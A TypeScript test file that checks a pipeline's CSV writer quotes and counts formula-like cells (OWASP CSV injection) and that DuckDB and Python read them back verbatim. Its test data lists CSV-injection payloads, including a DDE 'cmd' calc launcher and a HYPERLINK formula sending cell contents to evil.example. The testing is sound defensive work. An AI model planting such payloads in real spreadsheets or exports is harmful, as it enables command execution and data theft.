/**
 * CSV safety (pipeline/lib/writers.ts): cells that a spreadsheet would run as formulas (`=`, `+`, `-`, `@`, tab,
 * CR — OWASP "CSV Injection" — and their full-width forms) are written verbatim and quoted, so DuckDB and
 * Python's csv module (the same quoting rules as pandas) read back exactly the text; writeCsv counts them.
 * Round trip with the readers' own parsers, as for every exporter.
 */
import { describe, it, expect, beforeAll } from 'vitest';
import { readFile } from 'node:fs/promises';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { writeCsv, isFormulaLike, type Row } from '../../pipeline/lib/writers.js';
import { tempDir } from './util.js';

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '－这是破折号开头的句子',
  '"quoted" and ""double""',
  '逗号,分号;换行\n第二行\r\n第三行',
  ' leading space',
  '',
  'NULL',
  'null',
  '普通文本：同志们好。',
];

const COLUMNS = [{ name: 'id', type: 'string' as const }, { name: 'text', type: 'string' as const }, { name: 'n', type: 'int' as const }];
let file = '';
let result: { rows: number; formulaLike: number };
const rows: Row[] = HOSTILE.map((t, i) => ({ id: `r${i}`, text: t, n: i - 3 }));

beforeAll(async () => {
  file = path.join(await tempDir('jw-csv-'), 'documents.csv');
  rows.push({ id: 'rnull', text: null, n: null });
  result = await writeCsv(file, COLUMNS, (async function* () {
    yield* rows;
  })());
});

describe('CSV cells that look like formulas', () => {
  it('are written verbatim, every string quoted (no apostrophe prefix)', async () => {
    const csv = await readFile(file, 'utf8');
    expect(csv).toContain('"=cmd|\' /C calc\'!A0"');
    expect(csv).toContain('"+1+1"');
    expect(csv).not.toMatch(/"'[=+\-@]/);
    // numbers are not quoted; negative ones therefore start a field with '-': they are numbers, not text.
    expect(csv.split('\r\n')[1]).toBe('"r0","=cmd|\' /C calc\'!A0",-3');
  });

  it('are counted', () => {
    expect(result.rows).toBe(rows.length);
    expect(result.formulaLike).toBe(HOSTILE.filter((t) => isFormulaLike(t)).length);
    expect(result.formulaLike).toBe(9);
  });

  it('read back exactly with DuckDB', async () => {
    const db = await DuckDBInstance.create(':memory:');
    const con = await db.connect();
    try {
      // allow_quoted_nulls = false: a quoted "" is an empty string, an empty field NULL (DuckDB's default reads both as NULL).
      const r = await con.runAndReadAll(`SELECT id, text, n FROM read_csv('${file}', header = true, all_varchar = true, quote = '"', escape = '"', allow_quoted_nulls = false)`);
      const got = r.getRowObjectsJS() as { id: string; text: string | null; n: string | null }[];
      expect(got.map((g) => g.text)).toEqual([...HOSTILE, null]);
      expect(got.map((g) => g.n)).toEqual([...HOSTILE.map((_, i) => String(i - 3)), null]);
    } finally {
      con.closeSync();
      db.closeSync();
    }
  });

  // The machines always have python3 (make needs it for node-gyp); only its absence skips this, never a failure.
  const hasPython = (() => {
    try {
      execFileSync('python3', ['-c', 'pass']);
      return true;
    } catch {
      return false;
    }
  })();
  it.skipIf(!hasPython)('read back exactly with Python csv (the quoting rules pandas uses)', () => {
    const py = `import csv,json,sys\nwith open(sys.argv[1], newline='', encoding='utf-8') as f:\n  print(json.dumps([r['text'] for r in csv.DictReader(f)]))`;
    const out = execFileSync('python3', ['-c', py, file], { encoding: 'utf8' });
    // csv has no NULL: the null cell reads as ''.
    expect(JSON.parse(out)).toEqual([...HOSTILE, '']);
  });
});
